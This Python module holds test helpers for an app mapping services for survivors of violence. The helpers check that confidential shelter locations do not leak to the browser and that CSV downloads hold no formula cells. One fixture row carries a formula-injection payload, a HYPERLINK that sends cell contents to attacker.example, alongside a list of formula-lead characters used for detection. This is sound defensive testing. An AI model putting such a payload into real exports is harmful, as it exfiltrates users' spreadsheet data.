"""What the privacy tests look for: the places a view must not send, and the cells a download
must not hold."""

from __future__ import annotations

import csv
import io
import re
import struct

import pandas as pd
from streamlit.dataframe_util import convert_pandas_df_to_arrow_bytes

# Written out here, not read from vawmap: they are what is tested.
PLACING_COLUMNS = ["district", "location", "latitude", "longitude"]
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")

# A services upload in known regions of the sample: a shelter whose type is misspelt (set
# aside), a shelter with a malformed latitude and an impossible longitude, and an open helpline
# with a malformed latitude and a provider name a spreadsheet would run.
SERVICES_CSV = (
    b"provider,service_type,region,district,location,latitude,longitude,confidential\n"
    b"Hidden Refuge,safe accomodation,Highcrest,Quietdale,7 Secret Lane,-15.4321,33.4321,\n"
    b"Night Shelter,safe_accommodation,Highcrest,Quietdale,9 Hidden Row,-15.9x,195.5,\n"
    b'"=HYPERLINK(""http://attacker.example/?""&A1,""open"")",helpline,Northmoor,Brook,1 Open Street,-16.2x,33.2,no\n'
)
SHELTERS_PLACES = ("Quietdale", "7 Secret Lane", "9 Hidden Row", "-15.4321", "33.4321", "-15.9x", "195.5")
OPEN_BAD_LATITUDE = "-16.2x"


def secrets_of(services: pd.DataFrame) -> dict[str, list]:
    """The confidential services' coordinates and addresses (unknown confidentiality counts as
    confidential), to look for in what is sent; less any an open service shares, which may be sent."""
    hidden = services["confidential"].fillna(True).astype(bool)

    def values(columns, rows) -> set:
        return {value for column in columns for value in services.loc[rows, column].dropna()}

    coordinates = values(("latitude", "longitude"), hidden) - values(("latitude", "longitude"), ~hidden)
    return {
        "coordinates": sorted(float(value) for value in coordinates),
        "addresses": sorted(values(["location"], hidden) - values(["location"], ~hidden)),
    }


def leaks(sent: bytes, secrets: dict[str, list]) -> list[str]:
    """Each secret found in `sent`: a coordinate as the 8 bytes of a float64 (how Arrow holds a
    number column) or as text (how JSON and text columns hold it), an address as UTF-8."""
    found = []
    for number in secrets["coordinates"]:
        as_text = re.compile(rb"(?<![0-9.])" + re.escape(repr(number).encode()) + rb"(?![0-9])")
        if struct.pack("<d", number) in sent or as_text.search(sent):
            found.append(repr(number))
    found += [address for address in secrets["addresses"] if address.encode("utf-8") in sent]
    return found


def arrow_bytes(frame: pd.DataFrame) -> bytes:
    """What st.dataframe sends for `frame`: Streamlit's own Arrow IPC serialisation."""
    return convert_pandas_df_to_arrow_bytes(frame)


def cells_of(data: bytes) -> list[list[str]]:
    """The cells of a CSV download, as a spreadsheet reads them (byte-order mark dropped)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def formula_cells(data: bytes) -> list[str]:
    """Cells that start a formula: a formula lead first (spaces aside), unless a plain number."""
    return [
        cell
        for row in cells_of(data)
        for cell in row
        if cell.lstrip(" ").startswith(FORMULA_LEADS) and not PLAIN_NUMBER.fullmatch(cell)
    ]
